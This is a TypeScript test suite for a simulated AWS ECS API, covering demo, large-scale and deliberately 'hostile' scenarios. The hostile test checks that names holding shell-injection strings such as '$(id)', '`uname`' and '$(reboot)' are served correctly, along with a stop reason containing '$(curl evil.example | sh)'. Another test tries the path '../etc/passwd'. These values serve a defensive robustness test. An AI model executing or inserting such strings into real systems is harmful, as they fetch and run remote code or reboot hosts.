import { strict as assert } from 'node:assert';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  DescribeClustersCommand,
  DescribeContainerInstancesCommand,
  DescribeServicesCommand,
  DescribeTaskDefinitionCommand,
  DescribeTasksCommand,
  ECSClient,
  ExecuteCommandCommand,
  ListClustersCommand,
  ListContainerInstancesCommand,
  ListServicesCommand,
  ListTasksCommand,
  type Service,
  type Task,
} from '@aws-sdk/client-ecs';
import { buildState, listScenarios, readScenario } from '../../../sim/scenario';
import { ManualClock, startSimulator, type Simulator } from '../../../sim/server';

async function allTasks(ecs: ECSClient, cluster: string, desiredStatus: 'RUNNING' | 'STOPPED'): Promise<Task[]> {
  const arns: string[] = [];
  let nextToken: string | undefined;
  do {
    const r = await ecs.send(new ListTasksCommand({ cluster, desiredStatus, nextToken }));
    arns.push(...r.taskArns!);
    nextToken = r.nextToken;
  } while (nextToken);
  const out: Task[] = [];
  for (let i = 0; i < arns.length; i += 100) out.push(...(await ecs.send(new DescribeTasksCommand({ cluster, tasks: arns.slice(i, i + 100) }))).tasks!);
  return out;
}

async function allServices(ecs: ECSClient, cluster: string): Promise<Service[]> {
  const arns: string[] = [];
  let nextToken: string | undefined;
  do {
    const r = await ecs.send(new ListServicesCommand({ cluster, maxResults: 100, nextToken }));
    arns.push(...r.serviceArns!);
    nextToken = r.nextToken;
  } while (nextToken);
  const out: Service[] = [];
  for (let i = 0; i < arns.length; i += 10) out.push(...(await ecs.send(new DescribeServicesCommand({ cluster, services: arns.slice(i, i + 10) }))).services!);
  return out;
}

describe('scenario: demo', () => {
  let sim: Simulator;
  let ecs: ECSClient;
  let stopped: Task[] = [];
  let running: Task[] = [];
  let services: Service[] = [];
  before(async () => {
    // A clock that stands still: the scenario's relative times and ECS's one-hour visibility of
    // stopped tasks are computed against the same instant, however long the tests take.
    sim = await startSimulator({ scenario: 'demo', clock: new ManualClock() });
    ecs = new ECSClient({ ...sim.clientConfig(), maxAttempts: 1 });
    for (const c of ['prod', 'legacy-ec2', 'staging']) {
      stopped.push(...(await allTasks(ecs, c, 'STOPPED')));
      running.push(...(await allTasks(ecs, c, 'RUNNING')));
      services.push(...(await allServices(ecs, c)));
    }
  });
  after(async () => {
    ecs.destroy();
    await sim.stop();
  });

  it('looks like an account: several clusters, Fargate and EC2, container instances', async () => {
    const clusters = (await ecs.send(new ListClustersCommand({}))).clusterArns!.map((a) => a.split('/').pop());
    assert.deepEqual(clusters, ['prod', 'legacy-ec2', 'staging', 'default']);
    assert.ok(running.some((t) => t.launchType === 'FARGATE'));
    assert.ok(running.some((t) => t.launchType === 'EC2' && t.containerInstanceArn));
    const cis = (await ecs.send(new ListContainerInstancesCommand({ cluster: 'legacy-ec2' }))).containerInstanceArns!;
    const d = await ecs.send(new DescribeContainerInstancesCommand({ cluster: 'legacy-ec2', containerInstances: cis }));
    const versions = d.containerInstances!.map((c) => c.versionInfo!.agentVersion).sort();
    assert.deepEqual(versions, ['1.48.1', '1.86.3', '1.86.3']);
    assert.ok(d.containerInstances!.some((c) => c.status === 'DRAINING' && c.agentConnected === false));
    const prod = (await ecs.send(new DescribeClustersCommand({ clusters: ['prod'], include: ['SETTINGS', 'CONFIGURATIONS'] }))).clusters?.[0];
    assert.ok(prod);
    assert.equal(prod.configuration!.executeCommandConfiguration!.logging, 'OVERRIDE');
    assert.ok(prod.configuration!.executeCommandConfiguration!.kmsKeyId);
  });

  it('has healthy services, an UNHEALTHY container, a deployment IN_PROGRESS and one FAILED by the circuit breaker', () => {
    const web = services.find((s) => s.serviceName === 'web')!;
    assert.equal(web.runningCount, 3);
    assert.equal(web.desiredCount, 3);
    assert.equal(web.deployments?.[0]?.rolloutState, 'COMPLETED');
    assert.ok(running.some((t) => t.healthStatus === 'UNHEALTHY' && t.containers!.some((c) => c.healthStatus === 'UNHEALTHY')));
    const api = services.find((s) => s.serviceName === 'api')!;
    assert.equal(api.deployments?.[0]?.rolloutState, 'IN_PROGRESS');
    assert.equal(api.deployments?.[0]?.runningCount, 1);
    assert.equal(api.deployments?.[0]?.pendingCount, 1);
    assert.equal(api.deployments?.[1]?.runningCount, 2);
    const checkout = services.find((s) => s.serviceName === 'checkout')!;
    const failed = checkout.deployments!.find((d) => d.rolloutState === 'FAILED')!;
    assert.match(failed.rolloutStateReason!, /circuit breaker/);
    assert.equal(checkout.deploymentConfiguration!.deploymentCircuitBreaker!.rollback, true);
    assert.ok(services.some((s) => s.capacityProviderStrategy?.some((c) => c.capacityProvider === 'FARGATE_SPOT')));
  });

  it('has service events in the real formats, including an unhealthy target', () => {
    const msgs = services.flatMap((s) => s.events!.map((e) => e.message!));
    assert.ok(msgs.some((m) => /^\(service web\) \(port 8080\) is unhealthy in \(target-group arn:aws:elasticloadbalancing:[^)]+\) due to \(reason Health checks failed\)\.$/.test(m)));
    assert.ok(msgs.some((m) => /has reached a steady state\.$/.test(m)));
    for (const s of services) {
      const times = s.events!.map((e) => e.createdAt!.getTime());
      assert.deepEqual(times, [...times].sort((a, b) => b - a), `${s.serviceName} events newest first`);
    }
  });

  it('has a non-essential sidecar and standalone tasks', async () => {
    const td = (await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: 'web' }))).taskDefinition!;
    assert.equal(td.containerDefinitions!.find((c) => c.name === 'log-router')!.essential, false);
    assert.ok(running.some((t) => t.group?.startsWith('family:')));
    assert.ok(stopped.some((t) => t.group?.startsWith('family:')));
  });

  it('stopped tasks cover every documented stop-reason family', () => {
    const text = (t: Task) => [t.stoppedReason ?? '', ...t.containers!.map((c) => c.reason ?? '')].join('\n');
    const has = (re: RegExp) => stopped.some((t) => re.test(text(t)));
    const families: [string, RegExp][] = [
      ['CannotPullContainerError (missing tag)', /CannotPullContainerError: .*not found/],
      ['CannotPullContainerError (Docker Hub rate limit)', /CannotPullContainerError: .*toomanyrequests/],
      ['CannotPullContainerError (access denied)', /CannotPullContainerError: .*403 Forbidden/],
      ['CannotPullContainerError (disk full)', /CannotPullContainerError: .*no space left on device/],
      ['ResourceInitializationError (secrets)', /ResourceInitializationError: unable to pull secrets.*secretsmanager:GetSecretValue/],
      ['ResourceInitializationError (registry connectivity)', /ResourceInitializationError: .*connection issue between the task and Amazon ECR/],
      ['ResourceInitializationError (logging driver)', /ResourceInitializationError: failed to validate logger args/],
      ['TaskFailedToStart (no free IPs)', /InsufficientFreeAddressesInSubnet/],
      ['OutOfMemoryError', /OutOfMemoryError: Container killed due to memory usage/],
      ['CannotStartContainerError', /CannotStartContainerError: /],
      ['ContainerRuntimeTimeoutError', /ContainerRuntimeTimeoutError: /],
      ['Essential container exited', /^Essential container in task exited$/m],
      ['ELB health checks', /^Task failed ELB health checks in \(target-group arn:aws:elasticloadbalancing:/m],
      ['container health checks', /^Task failed container health checks$/m],
      ['Spot', /^Your Spot Task was interrupted\.$/m],
      ['scaling', /^Scaling activity initiated by \(deployment ecs-svc\/\d+\)$/m],
      ['user stop', /^Task stopped by user$/m],
      ['host termination', /Host EC2 \(instance i-[0-9a-f]+\) stopped\/terminated/],
    ];
    const missing = families.filter(([, re]) => !has(re)).map(([n]) => n);
    assert.deepEqual(missing, []);
    const codes = new Set(stopped.map((t) => t.stopCode));
    for (const c of ['TaskFailedToStart', 'EssentialContainerExited', 'UserInitiated', 'ServiceSchedulerInitiated', 'SpotInterruption', 'TerminationNotice']) {
      assert.ok(codes.has(c as Task['stopCode']), `stopCode ${c}`);
    }
    const exits = new Set(stopped.flatMap((t) => t.containers!.map((c) => c.exitCode)));
    for (const e of [1, 137, 143]) assert.ok(exits.has(e), `exit code ${e}`);
    assert.ok(stopped.some((t) => t.containers!.every((c) => c.exitCode === undefined)), 'a task whose containers never started (exitCode null)');
  });

  it('every stopped task is inside the one-hour window and has its timestamps', () => {
    for (const t of stopped) {
      assert.equal(t.lastStatus, 'STOPPED');
      const age = sim.state.loadedAt - t.stoppedAt!.getTime();
      assert.ok(age >= 0 && age < 3_600_000, `${t.taskArn} stopped ${age} ms before the scenario's now`);
      assert.ok(t.stoppingAt && t.createdAt);
      assert.ok(t.stopCode && t.stoppedReason, t.taskArn);
    }
  });

  it('ExecuteCommand works where exec is enabled and the agent runs', async () => {
    const web = running.find((t) => t.group === 'service:web')!;
    const r = await ecs.send(new ExecuteCommandCommand({ cluster: 'prod', task: web.taskArn, container: 'web', command: '/bin/sh', interactive: true }));
    assert.ok(r.session!.sessionId);
  });

  it('every task definition a service or task names can be described', async () => {
    const refs = new Set([...services.map((s) => s.taskDefinition!), ...running.map((t) => t.taskDefinitionArn!), ...stopped.map((t) => t.taskDefinitionArn!)]);
    for (const ref of refs) assert.ok((await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: ref }))).taskDefinition);
  });

  it('is deterministic: the same file gives the same ids', () => {
    const a = buildState(readScenario('demo'), 1_700_000_000_000);
    const b = buildState(readScenario('demo'), 1_700_000_000_000);
    const ids = (s: typeof a) => [...s.ecs.clusters.values()].flatMap((c) => [...c.tasks.values()].map((t) => `${t.taskArn} ${t.containers?.[0]?.runtimeId}`));
    assert.deepEqual(ids(a), ids(b));
  });
});

describe('scenario: hostile', () => {
  it('serves names with quotes, spaces and $() by name and by ARN', async () => {
    const sim = await startSimulator({ scenario: 'hostile' });
    const ecs = new ECSClient({ ...sim.clientConfig(), maxAttempts: 1 });
    try {
      const arns = (await ecs.send(new ListClustersCommand({}))).clusterArns!;
      const weird = arns.find((a) => a.includes('$(id)'))!;
      const name = weird.slice(weird.indexOf('cluster/') + 8);
      assert.equal(name, 'weird "quoted" it\'s $(id) `uname` name');
      const d = await ecs.send(new DescribeClustersCommand({ clusters: [name, weird] }));
      assert.equal(d.clusters!.length, 2);
      const svcs = (await ecs.send(new ListServicesCommand({ cluster: weird }))).serviceArns!;
      assert.equal(svcs[0]?.split('/').pop(), "web $(reboot) 'x'");
      const tasks = await allTasks(ecs, name, 'RUNNING');
      assert.equal(tasks.length, 1);
      const long = arns.find((a) => /cluster\/c_a{253}$/.test(a));
      assert.ok(long, 'a 255-character cluster name');
      const stopped = await allTasks(ecs, long, 'STOPPED');
      assert.match(stopped[0]?.stoppedReason ?? '', /\$\(curl evil\.example \| sh\)/);
    } finally {
      ecs.destroy();
      await sim.stop();
    }
  });
});

describe('scenario: large', () => {
  it('serves 2,000 services and a 1,000-task service', async () => {
    // Counts only: the time it takes is `npm run bench`'s, and that latency is a timer, not CPU,
    // is the faults tests' (on a manual clock).
    const sim = await startSimulator({ scenario: 'large' });
    const ecs = new ECSClient({ ...sim.clientConfig(), maxAttempts: 1 });
    try {
      const arns: string[] = [];
      let nextToken: string | undefined;
      do {
        const r: { serviceArns?: string[]; nextToken?: string } = await ecs.send(new ListServicesCommand({ cluster: 'large', maxResults: 100, nextToken }));
        arns.push(...r.serviceArns!);
        nextToken = r.nextToken;
      } while (nextToken);
      assert.equal(arns.length, 2000);
      assert.equal(new Set(arns).size, 2000, 'no service listed twice');
      const batches: string[][] = [];
      for (let i = 0; i < arns.length; i += 10) batches.push(arns.slice(i, i + 10));
      let described = 0;
      let running = 0;
      const worker = async () => {
        for (let b = batches.shift(); b; b = batches.shift()) {
          const r = await ecs.send(new DescribeServicesCommand({ cluster: 'large', services: b }));
          described += r.services!.length;
          running += r.services!.reduce((a, s) => a + s.runningCount!, 0);
        }
      };
      await Promise.all(Array.from({ length: 10 }, worker));
      assert.equal(described, 2000);
      assert.equal(running, 2000 * 2);
      const big: string[] = [];
      nextToken = undefined;
      do {
        const r: { taskArns?: string[]; nextToken?: string } = await ecs.send(new ListTasksCommand({ cluster: 'large-wide', serviceName: 'wide', nextToken }));
        big.push(...r.taskArns!);
        nextToken = r.nextToken;
      } while (nextToken);
      assert.equal(big.length, 1000);
      assert.equal(new Set(big).size, 1000, 'no task listed twice');
      assert.equal(sim.calls.length, 20 + 200 + 10);
      assert.ok(sim.calls.every((c) => c.status === 200));
    } finally {
      ecs.destroy();
      await sim.stop();
    }
  });
});

describe('scenario files', () => {
  it('lists the scenarios', () => {
    const names = listScenarios();
    for (const n of ['demo', 'empty', 'hostile', 'large']) assert.ok(names.includes(n), n);
  });

  it('explains unknown names, bad JSON and dangling references', () => {
    assert.throws(() => readScenario('nope'), /Scenario "nope" not found.*Known scenarios: .*demo/);
    assert.throws(() => readScenario('../etc/passwd'), /not found/);
    assert.throws(() => readScenario('bad name!'), /not valid/);
    const dir = mkdtempSync(path.join(tmpdir(), 'sim-'));
    const bad = path.join(dir, 'bad.json');
    writeFileSync(bad, '{"clusters": [');
    assert.throws(() => readScenario(bad), /is not valid JSON/);
    assert.throws(() => buildState({ clusters: [{ name: 'c', services: [{ name: 's', taskDefinition: 'ghost:1' }] }] }, 0), /Service s: task definition "ghost:1" is not in the scenario/);
    assert.throws(
      () => buildState({ taskDefinitions: [{ family: 'f', revision: 1, containerDefinitions: [{ name: 'a', image: 'x' }] }], clusters: [{ name: 'c', tasks: [{ taskDefinition: 'f:1', launchType: 'EC2' }] }] }, 0),
      /runs on EC2 but container instance/,
    );
    assert.throws(() => buildState({ clusters: [{ name: 'c', tasks: [{ service: 'nope' }] }] }, 0), /names service "nope"/);
  });
});
